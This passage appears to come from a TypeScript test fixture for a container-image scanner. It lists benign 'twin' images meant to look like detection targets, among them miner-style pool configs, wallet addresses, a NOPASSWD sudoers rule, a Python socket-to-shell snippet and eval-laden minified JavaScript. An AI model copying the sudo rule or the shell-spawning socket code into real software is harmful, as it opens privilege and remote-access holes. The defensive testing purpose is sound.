          '[databases]\nmain = host=db.example port=5432 user=app password=x\n[pgbouncer]\npool_mode = transaction\nlisten_addr = 0.0.0.0\n',
        'opt/app/application.yml':
          'spring:\n  datasource:\n    url: jdbc:postgresql://db.example:5432/app\n    username: app\n    hikari:\n      pool-name: main\nredis:\n  pool:\n    url: cache.example:6379\n    user: app\n    pass: x\n',
        'opt/app/upstream.json':
          '{"pools":[{"url":"backend.example:8080","user":"svc","pass":"x","keepalive":true,"tls":true}],"retries":5}',
      },
      NGINX,
    ),
  ),
  twin(
    'a shop with wallets',
    image(
      {
        'opt/shop/.env': `BTC_ADDRESS=${bitcoinAddress('shop')}\nETH_ADDRESS=${ethereumAddress('shop')}\nDB_HOST=db.example\nDB_PORT=5432\nRPC_URL=https://rpc.example:8545\n`,
      },
      NGINX,
    ),
  ),
  twin(
    'OpenCL and CUDA settings',
    image(
      {
        'opt/ml/config.json':
          '{"opencl":true,"cuda":{"enabled":true,"devices":[0,1]},"pool":{"size":4},"algorithm":"adam","threads":8,"url":"tracking.example:5000","user":"ml"}',
      },
      { Cmd: ['python3', '-m', 'train'] },
    ),
  ),
  twin(
    'sudo for a work image',
    image(
      {
        'etc/sudoers.d/vscode': 'vscode ALL=(root) NOPASSWD:ALL\n',
        'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nvscode:x:1000:1000::/home/vscode:/bin/bash\n',
        'etc/shadow': 'root:*:1::::::\nvscode:!:1::::::\n',
      },
      { Cmd: ['bash'] },
    ),
  ),
  twin(
    'a Python library with sockets and shells',
    image(
      {
        'usr/lib/python3/dist-packages/fabric/tunnels.py':
          'import socket, subprocess, os\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(("", port))\n    os.dup2(s.fileno(), 3)\n    return subprocess.Popen(["/bin/sh", "-c", "cat"])\n',
        'usr/lib/python3.11/pty.py':
          'import os\nSTDIN_FILENO = 0\ndef spawn(argv):\n    os.dup2(slave_fd, STDIN_FILENO)\n    os.execlp(argv[0], *argv)\n',
      },
      NGINX,
    ),
  ),
  twin(
    'a template engine',
    image(
      {
        'app/server.js':
          '#!/usr/bin/env node\nconst http = require("http");\nconst tpl = new Function("ctx", "return `" + require("fs").readFileSync("t.html", "utf8") + "`");\nconst cfg = JSON.parse(Buffer.from(process.env.CFG, "base64"));\nhttp.get("http://api.example/", (r) => r.on("data", (d) => console.log(tpl({ d }))));\n',
      },
      { Cmd: ['node', '/app/server.js'] },
    ),
  ),
  twin(
    'minified vendor scripts',
    image(
      {
        'srv/www/assets/vendor.9f3a.js': `(()=>{var e={1:function(e,t,n){var r=function(){return this}()||Function("return this")();r.atob=r.atob||function(t){return Buffer.from(t,"base64").toString("binary")};try{r=r||new Function("return this")()}catch(e){}e.exports=r},2:(e,t)=>{fetch("/api").then(e=>e.text()).then(t=>{document.body.innerHTML=t});var s=eval("1+1")}}})();${'var a=1;'.repeat(3000)}\n`,
      },
      NGINX,
    ),
  ),
];

/** Honest things that look like what the detectors seek: each must be allowed by the built-in policy. */
export const TWINS: readonly ImageCase[] = [...ENTRYPOINTS, ...SEEN_IN_DEBIAN, ...BUILT, ...DATA];
